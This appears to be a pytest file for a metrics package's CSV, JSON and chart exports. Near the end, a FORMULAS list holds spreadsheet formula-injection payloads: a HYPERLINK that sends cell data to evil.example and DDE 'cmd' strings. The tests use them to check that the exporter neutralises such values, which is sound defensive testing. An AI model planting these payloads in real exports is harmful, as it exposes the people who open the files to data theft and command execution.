"""Exports of the metric tables to CSV and JSON, the daily series, and the PNG charts."""

from __future__ import annotations

import csv
import io
import json
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from closedloop.adapters.memory import InMemoryStore
from closedloop.engine.ports import CaseStore
from closedloop.errors import MissingDependency
from closedloop.metrics import (
    Period,
    compute,
    daily,
    supervision_board,
    to_csv,
    to_json,
    write_csv,
    write_json,
)
from closedloop.metrics.rates import Cell
from tests.unit.test_metrics_units import WEEK, run_week


@pytest.fixture(scope="module")
def week_store() -> CaseStore:
    store = InMemoryStore()
    run_week(store)
    return store


def png_size(path: Path) -> tuple[int, int]:
    """Width and height from a PNG's IHDR chunk, after checking signature and CRC."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG signature"
    length, kind = struct.unpack(">I4s", data[8:16])
    assert (length, kind) == (13, b"IHDR"), "the first chunk must be IHDR"
    header = data[16 : 16 + length]
    (crc,) = struct.unpack(">I", data[16 + length : 20 + length])
    assert crc == zlib.crc32(kind + header), "IHDR checksum"
    assert data[-12:] == b"\x00\x00\x00\x00IEND\xaeB`\x82", "the file must end with IEND"
    width, height = struct.unpack(">II", header[:8])
    return width, height


def test_csv_has_a_header_and_a_line_per_group_then_the_total(week_store: CaseStore) -> None:
    table = compute(week_store, WEEK, by="unit")
    rows = list(csv.DictReader(io.StringIO(to_csv(table))))
    assert list(rows[0]) == list(table.columns)
    assert [r["group"] for r in rows] == ["(none)", "roads", "street_s1", "water", "(all)"]
    water = rows[3]
    assert (water["due"], water["closed_on_time"]) == ("3", "2")
    assert float(water["on_time_closure_rate"]) == pytest.approx(2 / 3)
    assert rows[2]["filing_rate"] == ""  # no case reported: no rate, not 0


def test_json_describes_the_table_and_holds_its_rows(week_store: CaseStore) -> None:
    table = compute(week_store, WEEK, by="unit")
    document = json.loads(to_json(table))
    assert document["table"]["by"] == "unit"
    assert document["table"]["period"]["start"] == "2026-01-05T00:00:00Z"
    assert document["table"]["config"]["exclude_suspended"] is False
    assert document["columns"] == list(table.columns)
    assert document["rows"][-1]["group"] == "(all)"
    assert document["rows"][-1]["due"] == 6


def test_board_flagged_cases_and_daily_series_export_too(
    week_store: CaseStore, tmp_path: Path
) -> None:
    board = supervision_board(week_store, as_of=WEEK.end)
    written = write_csv(board, tmp_path / "board.csv")
    assert written.read_bytes().startswith(b"\xef\xbb\xbfunit,open,")  # BOM for spreadsheets
    flagged = json.loads(write_json(board.flagged_table(), tmp_path / "f.json").read_text())
    assert [r["case_id"] for r in flagged["rows"]] == ["C3"]
    assert flagged["rows"][0]["due_at"] == "2026-01-11T11:00:00Z"
    series = list(csv.DictReader(io.StringIO(to_csv(daily(week_store, WEEK)))))
    assert series[0] == {"day": "2026-01-05", "reported": "7", "filed": "5", "closed": "1"}


def test_daily_series_counts_each_local_day(week_store: CaseStore) -> None:
    series = daily(week_store, WEEK)
    # Mon: C1..C7 reported, C1..C5 filed, C6 closed; Tue: C8 closed; Wed: C1 and C5;
    # Sun: C2. C8 was reported and filed the Friday before, outside the week.
    assert [(r.reported, r.filed, r.closed) for r in series.rows] == [
        (7, 5, 1), (0, 0, 1), (0, 0, 2), (0, 0, 0), (0, 0, 0), (0, 0, 0), (0, 0, 1),
    ]  # fmt: skip
    # Counted in Honolulu (UTC-10), Monday 09:00 UTC is still Sunday the 4th.
    local = Period.days(date(2026, 1, 4), date(2026, 1, 4), timezone="Pacific/Honolulu")
    assert [(r.day, r.reported) for r in daily(week_store, local).rows] == [(date(2026, 1, 4), 7)]


def test_charts_are_png_images_of_the_asked_size(week_store: CaseStore, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib", reason="charts need the cli extra")
    from closedloop.metrics.charts import intake_chart, on_time_chart

    intake = intake_chart(daily(week_store, WEEK), tmp_path / "intake.png", width=640, height=480)
    assert png_size(intake) == (640, 480)
    table = compute(week_store, WEEK, by="unit")
    rates = on_time_chart(table, tmp_path / "on_time.png", width=900, height=300, dpi=150)
    assert png_size(rates) == (900, 300)
    with pytest.raises(ValueError, match="not a rate"):
        on_time_chart(table, tmp_path / "x.png", rate="due")


def test_charts_without_matplotlib_say_which_extra_to_install(
    week_store: CaseStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from closedloop.metrics.charts import intake_chart

    for name in ("matplotlib", "matplotlib.figure", "matplotlib.backends.backend_agg"):
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(MissingDependency, match=r"closedloop\[cli\]") as missing:
        intake_chart(daily(week_store, WEEK), tmp_path / "intake.png")
    assert (missing.value.package, missing.value.extra) == ("matplotlib", "cli")
    assert not (tmp_path / "intake.png").exists()


def test_importing_the_metrics_loads_neither_matplotlib_nor_sqlalchemy() -> None:
    code = (
        "import sys, closedloop.metrics, closedloop.metrics.charts\n"
        "assert 'matplotlib' not in sys.modules, 'charts import matplotlib when drawing'\n"
        "assert 'sqlalchemy' not in sys.modules, 'only reading a SQL store needs it'\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


class HostTable:
    """A table of the host's own, exported through the public Tabular protocol."""

    def __init__(self, columns: tuple[str, ...], rows: list[dict[str, Cell]]) -> None:
        self.columns = columns
        self.rows = rows

    def records(self) -> Iterator[dict[str, Cell]]:
        yield from self.rows

    def describe(self) -> dict[str, Any]:
        return {"title": "host table"}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+86 138 1234 5678",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_gets_a_quote_in_front(text: str) -> None:
    table = HostTable(("group", "open"), [{"group": text, "open": 3}])
    (row,) = csv.DictReader(io.StringIO(to_csv(table)))
    assert row == {"group": "'" + text, "open": "3"}


def test_numbers_stay_numbers_even_negative_ones() -> None:
    rows: list[dict[str, Cell]] = [
        {"group": "water", "hours": -12.5, "delta": -3, "text": "-3.5", "rate": None},
        {"group": "roads", "hours": 0.25, "delta": 7, "text": "+1e3", "rate": 0.5},
        {"group": "=1+1", "hours": float("-inf"), "delta": 0, "text": "-.5", "rate": 1.0},
    ]
    table = HostTable(("group", "hours", "delta", "text", "rate"), rows)
    lines = to_csv(table).splitlines()
    assert lines == [
        "group,hours,delta,text,rate",
        "water,-12.5,-3,-3.5,",
        "roads,0.25,7,+1e3,0.5",
        "'=1+1,'-inf,0,-.5,1.0",
    ]


def test_a_hostile_column_name_is_neutralised_too() -> None:
    table = HostTable(("group", "=cmd"), [{"group": "water", "=cmd": 1}])
    assert to_csv(table).splitlines() == ["group,'=cmd", "water,1"]


def test_json_keeps_every_value_as_it_is() -> None:
    table = HostTable(("group", "open"), [{"group": FORMULAS[0], "open": -1}])
    assert json.loads(to_json(table))["rows"] == [{"group": FORMULAS[0], "open": -1}]
